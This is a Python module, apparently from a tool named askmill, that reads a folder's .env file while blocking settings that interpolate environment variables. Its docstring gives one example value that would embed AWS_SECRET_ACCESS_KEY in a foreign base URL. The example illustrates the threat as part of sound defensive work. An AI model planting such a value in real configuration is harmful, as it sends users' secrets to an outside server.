"""Reads the `.env` of the working folder without letting it read the environment.

The file may have come with the folder, for example with a cloned repository. python-dotenv replaces `${NAME}`
by the environment's variable: `OPENAI_BASE_URL=https://example.com/${AWS_SECRET_ACCESS_KEY}/v1` would send a
secret to a foreign server.
"""

import logging
import os
from collections.abc import Mapping
from pathlib import Path

from dotenv.parser import parse_stream
from dotenv.variables import Variable, parse_variables
from pydantic_settings import DotEnvSettingsSource

SETTING_PREFIXES = ("ASKMILL_", "OPENAI_")
PATH_SETTINGS = frozenset({"ASKMILL_DATA_DIR", "ASKMILL_PRICES"})
"""Paths, which are not sent: they may contain `${HOME}`."""


# pydantic reads the file too, and python-dotenv would warn of lines that may belong to another program.
logging.getLogger("dotenv").setLevel(logging.ERROR)


class EnvironmentReference(ValueError):
    """A setting whose value in `.env` refers to a variable of the environment."""


class UnreadableLine(ValueError):
    """A line of `.env` that seems to hold one of askmill's settings cannot be read."""


class EnvFile(DotEnvSettingsSource):
    """pydantic's reader of `.env`, except that it raises EnvironmentReference and UnreadableLine."""

    def _read_env_file(self, file_path: Path) -> Mapping[str, str | None]:
        values = interpolate(raw_values(file_path), os.environ)
        return {name.lower(): value for name, value in values.items() if value}


def raw_values(file: Path) -> Mapping[str, str | None]:
    """The file's values as they stand; lines that cannot be read are left out, as by python-dotenv.

    Raises:
        UnreadableLine: one of askmill's settings would be left out. The message has not the line's text.
    """
    values = dict[str, str | None]()
    with file.open(encoding="utf-8") as stream:
        for binding in parse_stream(stream):
            text = binding.original.string.upper()
            if binding.error and any(prefix in text for prefix in SETTING_PREFIXES):
                raise UnreadableLine(
                    f".env in {Path.cwd()}: line {binding.original.line} cannot be read. Write NAME=VALUE, "
                    "with both quotes or none."
                )
            if binding.key is not None:
                values[binding.key] = binding.value
    return values


def interpolate(raw: Mapping[str, str | None], environment: Mapping[str, str]) -> dict[str, str | None]:
    """The file's values with `${NAME}` replaced from earlier lines of the file, else from the environment.

    Raises:
        EnvironmentReference: one of askmill's settings refers to the environment, directly or through another
            line. A setting that the environment has too is skipped: its line has no effect.
    """
    values, environment_references = dict[str, str | None](), dict[str, str]()
    set_variables = {name.upper() for name, value in environment.items() if value}
    for name, text in raw.items():
        parts = list(parse_variables(text or ""))
        for reference in (part.name for part in parts if isinstance(part, Variable)):
            if reference in environment_references:
                environment_references[name] = environment_references[reference]
            elif reference in environment and reference not in values:
                environment_references[name] = reference
        values[name] = "".join(part.resolve({**environment, **values}) for part in parts)
        variable = name.upper()
        if (
            name in environment_references
            and variable.startswith(SETTING_PREFIXES)
            and variable not in PATH_SETTINGS | set_variables
        ):
            raise EnvironmentReference(
                f"{variable}: .env in {Path.cwd()} refers to {environment_references[name]} of the "
                "environment, which a file in the working folder may not read. Write the value itself into "
                f".env, or set {variable} in the environment."
            )
    return values
